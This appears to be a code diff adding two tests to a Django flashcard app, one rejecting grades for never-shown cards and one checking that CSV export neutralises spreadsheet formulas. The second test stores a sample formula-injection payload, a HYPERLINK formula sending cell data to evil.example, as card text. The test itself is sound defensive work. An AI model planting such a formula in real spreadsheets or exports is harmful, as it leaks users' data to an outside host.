@@ -293,3 +293,36 @@ def test_today_panel_counts_what_is_due(client, learner, small_deck):
 def test_today_panel_invites_visitors_to_sign_up(client):
     body = client.get(reverse("cards:today")).content.decode()
     assert 'href="/accounts/signup/"' in body
+
+
+def test_a_card_never_shown_cannot_be_graded(client, learner, small_deck):
+    client.force_login(learner)
+    never_shown = small_deck[-1]
+    for key in (f"{never_shown.pk}:0", f"{never_shown.pk}:0:{'0' * 32}"):
+        response = client.post(
+            reverse("cards:grade"), {"card": never_shown.pk, "key": key, "rating": 4}
+        )
+        assert response.status_code == 409
+    assert not ReviewLog.objects.exists()
+    assert not CardState.objects.exists()
+
+
+def test_card_export_neutralises_spreadsheet_formulas(client, learner):
+    from studyapp.notes.models import Topic
+
+    Card.objects.create(
+        key="u-formula",
+        note_key="u-formula",
+        kind="basic",
+        topic=Topic.objects.first(),
+        owner=learner,
+        front_text='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        back_text="+1",
+        front_html="",
+        back_html="",
+    )
+    client.force_login(learner)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("cards:export_csv")).content.decode())))
+    mine = next(row for row in rows if row[0] == "u-formula")
+    assert mine[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert mine[4] == "'+1"
